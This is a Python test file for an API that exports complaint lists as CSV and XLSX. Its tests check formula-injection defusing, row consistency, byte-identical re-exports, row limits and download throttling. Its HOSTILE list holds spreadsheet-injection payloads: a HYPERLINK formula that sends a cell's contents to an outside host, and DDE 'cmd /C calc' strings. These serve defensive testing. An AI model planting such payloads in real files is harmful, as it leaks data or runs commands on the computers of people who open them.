"""Lists as CSV and XLSX files: the same rows as the pages, texts that stay texts, the same bytes when asked again."""

import asyncio
import re
from collections.abc import AsyncIterator, Iterator
from dataclasses import replace

import pytest
from hypothesis import given
from hypothesis import strategies as st

from api.access.queries import Query
from api.exports import csv_file
from api.exports.cells import cell_of, defused, shown
from api.exports.forms import Form, chosen_form
from api.exports.sheet import Rows, Sheet
from api.exports.workbook import LONGEST_TEXT, Workbook
from api.main import create_app
from api.routes import exports, lists
from api.routes.exports import Export
from api.services import Services
from api.settings import Settings
from api.tokens import EmbeddedIssuer
from cases.application import Casework
from projections.worker import Worker
from tests.api.desk import COMPLAINT, Desk
from tests.api.shell import Browser
from tests.api.spreadsheets import read, read_csv, read_xlsx

HOSTILE = (
    '=HYPERLINK("http://contoh.test?x="&A1;"klik")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "+62 812-0000-0001",
    '"=1+1',
    "  =1+1",
    "Pasar; =1+1",
    "Baris satu\n=1+1",
    "＝1+1",  # noqa: RUF001  # wide signs count too
)
"""Texts that somebody might give as a name, and that a spreadsheet program would take for a formula somewhere."""

UNSHOWABLE = {"nol\x00nol": "nol\ufffdnol", "\u202ekilab": "\ufffdkilab", "separuh\ud800": "separuh\ufffd", "\x0b=1": "\ufffd=1"}
HARMLESS = ("Siti Aminah", "Jl. Melati 5-7", "a@b.test", "-6.33", "Rp1+2", "anak; ibu", "32.12.01.2008", "")


def complain(desk: Desk, *texts: str) -> None:
    """Receive a complaint with each of these texts as what it is about."""
    head = desk.person("kepala-1")
    for text in texts:
        head.does("/v1/complaints", {**COMPLAINT, "what": text})
    desk.catch_up()


@pytest.mark.parametrize(
    ("accept", "form"),
    [
        (None, None),
        ("", None),
        ("*/*", None),
        ("application/json", None),
        ("text/csv", Form.CSV),
        ("TEXT/CSV; charset=utf-8", Form.CSV),
        ("text/*", Form.CSV),
        ("text/html, text/csv;q=0.9, */*;q=0.1", Form.CSV),
        ("text/csv, application/json", None),
        ("text/csv;q=0.5, application/json;q=0.4", Form.CSV),
        ("text/csv;q=0", None),
        ("application/*, text/csv;q=0.3", None),
        (Form.XLSX.value, Form.XLSX),
        (f"{Form.XLSX.value}, text/csv;q=0.8", Form.XLSX),
        ("text/csv;q=9, nonsense, ;;;", Form.CSV),
        ("image/png", None),
        ("text/csv" + "x" * 10_000, None),
    ],
)
def test_a_list_is_json_unless_the_caller_prefers_a_file(accept: str | None, form: Form | None) -> None:
    assert chosen_form(accept) is form


@pytest.mark.parametrize("text", HOSTILE)
def test_no_text_is_taken_for_a_formula(text: str) -> None:
    assert defused(text) != text
    assert defused(text).replace("'", "") == text.replace("'", "")


@pytest.mark.parametrize("text", HARMLESS)
def test_what_is_harmless_stays_as_it_is(text: str) -> None:
    assert defused(text) == text


@given(st.text(alphabet="=+-@;, \t\r\n\"'a1\u00a0＝＠", max_size=30))  # noqa: RUF001  # wide signs count too
def test_wherever_a_line_is_split_no_piece_begins_as_a_formula(text: str) -> None:
    safe = defused(text)
    if re.fullmatch(r"-\d{1,15}(\.\d{1,15})?", text) is None:
        for piece in re.split("[;\t\r\n]", safe):
            assert not piece.lstrip(' \u00a0"').startswith(tuple("=+-@＝＠")), safe  # noqa: RUF001  # wide signs count too
        assert not safe.startswith(("\t", "\r", "\n"))


@pytest.mark.parametrize(("text", "seen"), UNSHOWABLE.items())
def test_what_nobody_sees_is_shown_as_a_mark(text: str, seen: str) -> None:
    sheet = Sheet(name="cases", about_name="about", about=(("list", text),), columns=("name", "other"))
    rows = [{"name": text, "other": [text, text]}]
    assert shown(text) == seen
    assert read_csv(csv_file.head(sheet) + csv_file.lines(sheet, rows)).rows == [[defused(seen), defused(f"{seen}; {seen}")]]
    with Workbook(sheet) as workbook:
        workbook.add(rows)
    assert read_xlsx(workbook.content).rows == [[seen, f"{seen}; {seen}"]]


def test_numbers_stay_numbers_and_texts_of_digits_texts() -> None:
    sheet = Sheet(name="cases", about_name="about", about=(), columns=("minus", "share", "yes", "none", "nik", "deep", "several"))
    row = {
        "minus": -5,
        "share": 0.25,
        "yes": True,
        "none": None,
        "nik": "9912345003500001",
        "deep": {"b": 1, "a": "=x"},
        "several": ["b", "a"],
    }
    with Workbook(sheet) as workbook:
        workbook.add([row])
    assert read_xlsx(workbook.content).rows == [[-5.0, 0.25, True, "", "9912345003500001", '{"a":"=x","b":1}', "b; a"]]
    assert csv_file.lines(sheet, [row]).decode() == '-5,0.25,"true","","9912345003500001","{""a"":""=x"",""b"":1}","b; a"\r\n'


def test_a_text_longer_than_a_cell_is_cut_and_says_so() -> None:
    sheet = Sheet(name="cases", about_name="about", about=(), columns=("what",))
    with Workbook(sheet) as workbook:
        workbook.add([{"what": "a" * (LONGEST_TEXT + 1)}])
    ((found,),) = read_xlsx(workbook.content).rows
    assert (len(found), found[-2:]) == (LONGEST_TEXT, "a…")


def test_a_workbook_that_fails_leaves_nothing_behind(monkeypatch: pytest.MonkeyPatch, tmp_path_factory: pytest.TempPathFactory) -> None:
    folder = tmp_path_factory.mktemp("making")
    monkeypatch.setattr("tempfile.tempdir", str(folder))
    sheet = Sheet(name="cases", about_name="about", about=(), columns=("what",))

    def half_made() -> None:
        with Workbook(sheet) as workbook:
            workbook.add([{"what": "a"}])
            assert [one.stat().st_mode & 0o077 for one in folder.iterdir()] == [0], "for nobody else to read"
            raise ZeroDivisionError

    with pytest.raises(ZeroDivisionError):
        half_made()
    assert list(folder.iterdir()) == []


def test_hostile_texts_come_out_of_both_files_as_texts(desk: Desk) -> None:
    complain(desk, *HOSTILE)
    head = desk.person("kepala-1")
    pages = [row["what"] for row in head.get("/v1/complaints").json()["rows"]]
    assert pages == [text.strip() if text not in pages else text for text in HOSTILE]
    xlsx = read(head.get("/v1/complaints", accept=Form.XLSX))
    assert xlsx.column("what") == pages
    csv = head.get("/v1/complaints", accept=Form.CSV)
    assert read(csv).column("what") == [defused(text) for text in pages]
    assert not re.search(rb'[,\n;]"?[=+@]', csv.content)
    assert csv.headers["Content-Type"] == "text/csv; charset=utf-8"


def test_pages_csv_and_xlsx_have_the_same_rows_however_many_are_read_at_once(desk: Desk, monkeypatch: pytest.MonkeyPatch) -> None:
    complain(desk, *(f"Laporan {number}" for number in range(7)))
    head = desk.person("kepala-1")
    ids, place = [], ""
    while True:
        page = head.get(f"/v1/complaints?limit=2{place}").json()
        ids += [row["complaint_id"] for row in page["rows"]]
        if page["next"] is None:
            break
        place = f"&cursor={page['next']}"
    for at_once in (1, 3, 7, 500):
        monkeypatch.setattr(lists, "ROWS_AT_ONCE", at_once)
        for form in Form:
            found = read(head.get("/v1/complaints", accept=form))
            assert found.column("complaint_id") == ids
            assert int(found.about["number of rows"]) == len(ids)
    some = read(head.get("/v1/complaints?stage=closed&limit=1", accept=Form.CSV))
    assert (some.rows, some.about["filters"]) == ([], "stage=closed")
    assert "complaint_id" in some.columns


@pytest.mark.parametrize("form", Form)
def test_as_known_at_a_position_a_file_is_the_same_to_the_byte(desk: Desk, form: Form) -> None:
    complain(desk, "Laporan pertama", "Laporan kedua")
    head = desk.person("kepala-1")
    now = head.get("/v1/complaints", accept=form)
    position = int(float(read(now).about["known at position"]))
    assert position == desk.size()
    complain(desk, "Laporan ketiga")
    then = head.get(f"/v1/complaints?known_at={position}", accept=form)
    assert then.content == now.content
    assert len(read(head.get("/v1/complaints", accept=form)).rows) == 3


def test_a_file_says_what_it_is_in_the_callers_language_and_its_name_tells_nobody_anything(desk: Desk) -> None:
    complain(desk, "Laporan")
    answer = desk.person("kepala-1", language="id").get("/v1/complaints?kind=LAPORAN", accept=Form.CSV)
    found = read(answer)
    assert found.about["dinas"] == "kab-contoh"
    assert found.about["peragaan"] == "bukan"
    assert found.about["daftar"] == "/v1/complaints"
    assert found.about["saringan"] == "kind=LAPORAN"
    assert found.about["diunduh oleh"].endswith("(KEPALA_DINAS)")
    assert answer.headers["Content-Disposition"] == f'attachment; filename="complaints-kab-contoh-{desk.size()}.csv"'
    assert answer.headers["Cache-Control"] == "no-store"
    assert "Accept" in [one.strip() for one in answer.headers["Vary"].split(",")]


def test_a_file_begins_at_the_beginning_and_its_head_has_no_body(desk: Desk) -> None:
    complain(desk, "Laporan", "Laporan lain")
    head = desk.person("kepala-1")
    place = head.get("/v1/complaints?limit=1").json()["next"]
    refused = head.get(f"/v1/complaints?cursor={place}", accept=Form.CSV)
    assert (refused.status_code, refused.json()["code"]) == (422, "cursor-unreadable")
    for _ in range(9):
        only = head.browser.request("HEAD", "/v1/complaints", headers={**head.headers, "Accept": Form.XLSX})
        assert (only.status_code, only.content) == (200, b"")
        assert only.headers["Content-Type"] == Form.XLSX


@pytest.fixture
def narrow(settings: Settings, services: Services, working: tuple[Casework, Worker]) -> Iterator[Desk]:
    """Offices at work where a file holds two rows."""
    few = replace(settings, limits=replace(settings.limits, export_rows=2))
    with Browser(create_app(few, services)) as browser:
        yield Desk(browser, working[0], EmbeddedIssuer(settings.home), working[1])


def test_a_list_too_long_for_a_file_is_refused_with_the_limit_and_what_narrows_it(narrow: Desk) -> None:
    complain(narrow, "Satu", "Dua")
    head, auditor = narrow.person("kepala-1"), narrow.person("auditor-1")
    assert len(read(head.get("/v1/complaints", accept=Form.CSV)).rows) == 2
    complain(narrow, "Tiga")
    looks = len(auditor.get("/v1/looks").json()["rows"])
    for form in Form:
        refused = head.get("/v1/complaints", accept=form)
        assert (refused.status_code, refused.json()["code"]) == (422, "too-many-rows")
        assert "2 rows" in refused.json()["detail"]
        assert {"stage", "area", "open"} <= set(refused.json()["possible"])
    assert len(auditor.get("/v1/looks").json()["rows"]) == looks, "nobody was shown anything"
    assert auditor.get("/v1/looks", accept=Form.CSV).status_code == (422 if looks > 2 else 200)


def exported(*pages: int, number: int) -> tuple[Export, list[int]]:
    """A list that is read in pages of these sizes and says that it has so many rows; and the pages read so far."""
    read_so_far: list[int] = []

    async def reading() -> AsyncIterator[Rows]:
        for size in pages:
            read_so_far.append(size)
            yield [{"what": "a"}] * size

    return Export(name="cases", query=Query.CASELOAD, columns=("what",), number=number, position=1, filters={}, pages=reading), read_so_far


def test_csv_is_sent_as_it_is_read() -> None:
    export, read_so_far = exported(3, 3, 1, number=7)

    async def sent() -> list[tuple[int, list[int]]]:
        sheet = Sheet(name="cases", about_name="about", about=(), columns=("what",))
        return [(piece.count(b"\r\n"), list(read_so_far)) async for piece in exports.lines_of(sheet, export)]

    assert asyncio.run(sent()) == [(2, []), (3, [3]), (3, [3, 3]), (1, [3, 3, 1])]


@pytest.mark.parametrize("number", [6, 8])
def test_a_file_with_other_rows_than_it_says_is_a_fault_and_not_a_file(number: int) -> None:
    export, _ = exported(3, 3, 1, number=number)

    async def sent() -> None:
        sheet = Sheet(name="cases", about_name="about", about=(), columns=("what",))
        async for _ in exports.lines_of(sheet, export):
            pass

    with pytest.raises(exports.RowsChanged):
        asyncio.run(sent())


def test_a_caller_has_so_many_files_running_and_no_more(settings: Settings, services: Services, working: tuple[Casework, Worker]) -> None:
    one = replace(settings, limits=replace(settings.limits, downloads_per_caller=1))
    with Browser(create_app(one, services)) as browser:
        desk = Desk(browser, working[0], EmbeddedIssuer(settings.home), working[1])
        head, worker = desk.person("kepala-1"), desk.person("kepala-1").get("/v1/me").json()["worker_id"]
        with browser.app.state.edge.downloads.one_more(worker):
            refused = head.get("/v1/complaints", accept=Form.CSV)
            assert (refused.status_code, refused.json()["code"]) == (429, "too-many-downloads")
            assert head.get("/v1/complaints").status_code == 200
        for form in (*Form, *Form):
            assert head.get("/v1/complaints", accept=form).status_code == 200, "each file gives its place back"
            assert head.get("/v1/complaints?cursor=x", accept=form).status_code == 422


def test_cells_of_several_values() -> None:
    several: list[object] = [[], {}, (), ["a", 1], [{"a": None}]]
    assert [cell_of(one) for one in several] == [None, None, None, "a; 1", '[{"a":null}]']
